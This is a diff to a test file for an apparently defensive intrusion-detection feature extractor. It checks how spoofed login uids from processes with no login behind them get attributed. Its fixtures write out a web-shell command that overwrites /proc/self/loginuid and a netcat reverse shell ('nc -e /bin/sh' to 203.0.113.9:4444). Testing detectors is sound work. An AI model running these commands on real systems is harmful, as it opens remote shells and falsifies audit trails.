@@ -252,6 +252,11 @@ t.test('a login uid a process no login is behind wrote itself is no login: its c
   t.ok(noLogin(x, exec('5020', '5010', '/usr/bin/newgrp', 'newgrp www-data', '33', '33', '0')), 'a set-uid program the writer started');
   t.ok(noLogin(x, exec('5020', '5010', '/bin/sh', 'sh', '33', '33')), "and the shell it became, whose children's login uid it did not set");
   t.ok(noLogin(x, exec('5030', '5020', '/usr/bin/id', 'id', '33', '33')), '…nor theirs');
+  // a table with no auid column (`processes`, polled) says nothing about the writer
+  const snapshot = exec('5000', '950', '/usr/bin/id', 'id', '33', '');
+  delete snapshot.columns.auid;
+  t.notOk(noLogin(x, { ...snapshot, query: 'pack_hids_processes' }), 'a processes row of the shell: nothing said');
+  t.ok(noLogin(x, exec('5050', '5000', '/usr/bin/id', 'id', '33', '33')), "after it, the shell's children as before");
   // what a restart keeps: process_events reports each process once
   const y = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
   t.ok(noLogin(y, exec('5040', '5010', '/usr/bin/uname', 'uname -a', '33', '33')), 'after a restart, a child of the process that wrote it');
@@ -263,4 +268,44 @@ t.test('a login uid a process no login is behind wrote itself is no login: its c
   t.notOk(noLogin(z, exec('6020', '6010', '/usr/bin/id', 'id', '1003', '1003')), "the session's commands");
   t.notOk(noLogin(z, connect('6010', '1003')), "the session's connections");
   t.notOk(noLogin(z, exec('6030', '7777', '/usr/bin/id', 'id', '33', '33')), 'a parent never seen: nothing said');
+});
+
+t.test("a login uid written by a process no login is behind names nobody: the rows are their uid's, not the named account's (review9)", async (t) => {
+  const users = new UidMap();
+  users.load([
+    ['33', 'www-data'],
+    ['1003', 'ops'],
+  ]);
+  const x = new FeatureExtractor({ users, overrides: {} });
+  const exec = (pid: string, parent: string, cmdline: string, auid: string): ResultRow => ({
+    query: 'pack_hids_process_events',
+    host: 'edge-web',
+    time: 1_790_000_000,
+    action: 'added',
+    columns: { pid, parent, path: `/usr/bin/${cmdline.split(' ')[0]}`, cmdline, uid: '33', euid: '33', auid },
+    decorations: {},
+  });
+  t.equal(x.extract(exec('5000', '950', "sh -c 'echo 1003 > /proc/self/loginuid; nc …'", '4294967295')).subject, 'www-data', 'the web shell');
+  const child = exec('5010', '5000', 'nc -e /bin/sh 203.0.113.9 4444', '1003');
+  t.equal(x.extract(child).subject, 'www-data', "its child, whose auid names ops: www-data's doing, not ops's");
+  t.equal(x.match(child).key, x.match(child).key, 'the side-effect-free path agrees');
+  const connect: ResultRow = {
+    query: 'pack_hids_socket_events',
+    host: 'edge-web',
+    time: 1_790_000_010,
+    action: 'added',
+    columns: { pid: '5010', path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid: '1003' },
+    decorations: {},
+  };
+  t.equal(x.extract(connect).subject, 'host', "its connection: no user, as a daemon's with an unset auid");
+  // ops's own session is ops's
+  x.extract({
+    ...exec('6000', '612', 'sshd-session: ops [priv]', '4294967295'),
+    columns: { ...exec('6000', '612', 'x', '4294967295').columns, uid: '0', euid: '0' },
+  });
+  t.equal(
+    x.extract({ ...exec('6010', '6000', 'bash', '1003'), columns: { ...exec('6010', '6000', 'bash', '1003').columns, uid: '1003', euid: '1003' } }).subject,
+    'ops',
+    "ops's login shell",
+  );
 });
